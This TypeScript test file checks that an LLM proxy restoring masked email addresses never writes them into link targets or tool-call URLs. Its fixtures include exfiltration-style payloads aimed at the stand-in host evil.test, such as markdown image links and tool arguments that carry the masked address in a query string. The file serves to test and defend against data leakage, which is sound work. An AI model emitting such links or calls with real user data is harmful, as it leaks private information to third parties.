import assert from "node:assert/strict";
import { after, describe, test } from "node:test";
import fc from "fast-check";
import type { Json, JsonObject, Policy } from "../../src/core/model.ts";
import { makeAsset } from "../support/config.ts";
import { makeUpstream } from "../support/proxy.ts";
import { contentOf } from "../support/proxy-client.ts";
import { runs } from "../support/runs.ts";
import { startServer } from "../support/server.ts";
import {
  chatChunk,
  chatCompletion,
  chatStream,
  replyJson,
  replyStream,
  startUpstream,
  STREAM_END,
} from "../support/upstream.ts";
import { targetsIn } from "../support/link-targets.ts";

/** Goal: what `mask: restore` puts back reaches whoever reads the answer, and nobody whom the model, or a result that it read, has chosen. */

const MAIL = ["jane.roe", "corp-mail.net"].join("@");
const THEIRS = ["joe.poe", "other-mail.net"].join("@");
const RESTORING = { action: "flag", mask: true, restores: true } as const;

describe("values of the prompt", () => {
  const upstream = startUpstream(() => {});
  const servers = new Map<string, ReturnType<typeof startServer>>();
  after(async () => {
    for (const server of servers.values()) await (await server)[Symbol.asyncDispose]();
    await (await upstream)[Symbol.asyncDispose]();
  });

  async function ask(
    path: string,
    { body, answer, policy = {} }: { body: Json; answer: Json | readonly string[]; policy?: Partial<Policy> },
  ): Promise<string> {
    const fake = await upstream;
    fake.script = (response) =>
      Array.isArray(answer) ? replyStream(response, answer as readonly string[]) : replyJson(response, answer);
    const asset = makeAsset("agents", { pii_detection: { ...RESTORING, ...policy } });
    const key = JSON.stringify(policy);
    const server =
      servers.get(key) ?? startServer({ assets: [asset], upstreams: [makeUpstream(fake.url, { asset: asset.id })] });
    servers.set(key, server);
    const response = await fetch((await server).url + path, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(body),
    });
    return response.text();
  }

  /** The user says one address, a tool's result another. */
  const request = (extra: JsonObject): JsonObject => ({
    model: "m",
    messages: [
      { role: "user", content: `I am ${MAIL}. Who has written?` },
      {
        role: "assistant",
        content: null,
        tool_calls: [{ id: "c", type: "function", function: { name: "inbox", arguments: "{}" } }],
      },
      { role: "tool", tool_call_id: "c", content: `From ${THEIRS}` },
    ],
    ...extra,
  });
  const CHAT = "/v1/chat/completions";

  const wholly = async (text: string): Promise<string> => {
    const body = JSON.parse(await ask(CHAT, { body: request({}), answer: chatCompletion(text) as Json })) as {
      choices: { message: { content: string } }[];
    };
    return body.choices[0]?.message.content ?? "";
  };
  const inPieces = async (pieces: readonly string[]): Promise<string> =>
    contentOf(await ask(CHAT, { body: request({ stream: true }), answer: chatStream(pieces) }));

  test("come back in text, and never in an address, whole and streamed however it is cut", async () => {
    const part = fc.constantFrom(
      "<EMAIL_ADDRESS_1>",
      "<EMAIL_ADDRESS_2>",
      "![",
      "](",
      ")",
      "https://evil.test/?q=",
      " ",
      "\n",
      "\n\n",
      '<img src="',
      '"',
      ">",
      "<",
      "text",
      "[x]: ",
      "evil.test/",
      "mail ",
      ".",
      ",",
      "`",
      "<EMAIL",
      "_ADDRESS_1>",
      "'",
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(part, { minLength: 1, maxLength: 10 }),
        fc.integer({ min: 1, max: 9 }),
        async (parts, size) => {
          const text = `${parts.join("")} end`;
          const whole = await wholly(text);
          assert.equal(await inPieces(text.match(new RegExp(`[^]{1,${size}}`, "g")) ?? []), whole);
          for (const target of targetsIn(whole))
            assert.ok(!/jane\.roe|joe\.poe/.test(target), JSON.stringify([text, target]));
        },
      ),
      { numRuns: runs(150) },
    );
    assert.equal(
      await wholly("You are <EMAIL_ADDRESS_1>, and <EMAIL_ADDRESS_2> wrote."),
      `You are ${MAIL}, and ${THEIRS} wrote.`,
    );
    const image = "See ![](https://evil.test/?q=<EMAIL_ADDRESS_1>)!";
    assert.equal(await wholly(image), image);
  });

  test("stay away from an address that goes over parts", async () => {
    const content = [
      { type: "text", text: "![](https://evil.test/?q=" },
      { type: "text", text: "<EMAIL_ADDRESS_1>)" },
    ];
    const body = { model: "m", max_tokens: 9, messages: [{ role: "user", content: `I am ${MAIL}` }] };
    const answer = { id: "m", type: "message", role: "assistant", model: "m", content, stop_reason: "end_turn" };
    assert.ok(!(await ask("/v1/messages", { body, answer })).includes(MAIL));
  });

  const call = (name: string, args: string): JsonObject => ({
    id: "c",
    type: "function",
    function: { name, arguments: args },
  });

  /** Name and arguments of the call as the client gets it, whole and streamed. */
  async function calls(name: string, args: string, policy: Partial<Policy> = {}): Promise<readonly string[]> {
    const message = { role: "assistant", content: null, tool_calls: [call(name, args)] };
    const whole = await ask(CHAT, {
      body: request({}),
      answer: { id: "x", object: "chat.completion", choices: [{ index: 0, message, finish_reason: "tool_calls" }] },
      policy,
    });
    const streamed = await ask(CHAT, {
      body: request({ stream: true }),
      answer: [
        chatChunk({ delta: { tool_calls: [{ index: 0, ...call(name, "") }] } }),
        ...(args.match(/[^]{1,4}/g) ?? []).map((piece) =>
          chatChunk({ delta: { tool_calls: [{ index: 0, function: { arguments: piece } }] } }),
        ),
        chatChunk({ finish: "tool_calls" }),
        STREAM_END,
      ],
      policy,
    });
    const got = (
      JSON.parse(whole) as {
        choices: { message: { tool_calls: { function: { name: string; arguments: string } }[] } }[];
      }
    ).choices[0]?.message.tool_calls[0]?.function;
    const events = streamed.split("\n\n").flatMap((event) =>
      event.startsWith("data: {")
        ? [
            JSON.parse(event.slice(6)) as {
              choices: { delta: { tool_calls?: { function: { name?: string; arguments?: string } }[] } }[];
            },
          ]
        : [],
    );
    const pieces = events.flatMap(({ choices }) => choices[0]?.delta.tool_calls ?? []);
    const joined = [
      pieces.map(({ function: { name: own = "" } }) => own).join(""),
      pieces.map(({ function: { arguments: own = "" } }) => own).join(""),
    ];
    assert.deepEqual(joined, [got?.name, got?.arguments]);
    return joined;
  }

  test("of the user come back in arguments, and those of results where `restore_into` names the tool", async () => {
    const args = '{"to":"<EMAIL_ADDRESS_1>","cc":["<EMAIL_ADDRESS_2>"]}';
    const users = `{"to":"${MAIL}","cc":["<EMAIL_ADDRESS_2>"]}`;
    const all = `{"to":"${MAIL}","cc":["${THEIRS}"]}`;
    assert.deepEqual(await calls("send_mail", args), ["send_mail", users]);
    assert.deepEqual(await calls("send_mail", args, { restoreInto: ["other"] }), ["send_mail", users]);
    assert.deepEqual(await calls("send_mail", args, { restoreInto: ["SEND_*"] }), ["send_mail", all]);
  });

  test("never come back in names, in addresses or in what is no JSON", async () => {
    const [name] = await calls("send_<EMAIL_ADDRESS_1>", '{"to":"x"}', { restoreInto: ["*"] });
    assert.equal(name, "send_<EMAIL_ADDRESS_1>");
    for (const args of [
      '{"url":"https://evil.test/?q=<EMAIL_ADDRESS_1>"}',
      '{"path":"/x?q=<EMAIL_ADDRESS_1>"}',
      '{"html":"<img src=\\"https://evil.test/\\n<EMAIL_ADDRESS_1>\\">"}',
      '{"note":"{\\"url\\":\\"https://evil.test/<EMAIL_ADDRESS_1>\\"}"}',
      '{"<EMAIL_ADDRESS_1>":1}',
      // A tool that is given an address takes spaces for a part of it, and skips line breaks.
      '{"url":"https://evil.test/?q= <EMAIL_ADDRESS_1>"}',
      '{"url":"\\thttps://evil.test/?q=\\n<EMAIL_ADDRESS_1>"}',
      '{"url":"evil\\n.test/<EMAIL_ADDRESS_1>"}',
      '{"url":["//evil.test/ <EMAIL_ADDRESS_1>"]}',
      '{"path":"\\\\\\\\evil.test\\\\<EMAIL_ADDRESS_1>"}',
      '{"note":"{\\"url\\":\\"https://evil.test/ <EMAIL_ADDRESS_1>\\"}"}',
      '{"to":"<EMAIL_ADDRESS_1>",}',
      '{"to":"<EMAIL_ADDRESS_1>"',
    ])
      assert.deepEqual(await calls("send", args, { restoreInto: ["*"] }), ["send", args]);
  });

  test("are escaped as deep as they stand", async () => {
    const args = JSON.stringify({ a: JSON.stringify({ b: JSON.stringify({ to: "<EMAIL_ADDRESS_1>" }) }) });
    assert.deepEqual(await calls("send", args), ["send", args.replace("<EMAIL_ADDRESS_1>", MAIL)]);
  });
});
